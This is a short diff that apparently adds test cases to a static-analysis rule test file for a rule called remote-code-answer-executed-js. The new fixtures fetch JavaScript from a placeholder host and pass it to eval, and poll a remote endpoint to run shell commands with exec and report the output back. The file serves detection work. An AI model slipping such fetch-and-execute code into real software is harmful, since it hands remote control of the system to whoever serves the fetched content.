@@ -20,3 +20,12 @@ async function c() {
   // ok: remote-code-answer-executed-js
   const m = /x(y)/.exec(data.text);
 }
+function d() {
+  // ruleid: remote-code-answer-executed-js
+  fetch("https://a.invalid/x.js").then((r) => r.text()).then(eval);
+}
+setInterval(async () => {
+  const next = await (await fetch("https://a.invalid/next")).json();
+  // ruleid: remote-code-answer-executed-js
+  exec(next.line, (fault, out) => report(out));
+}, 9000);
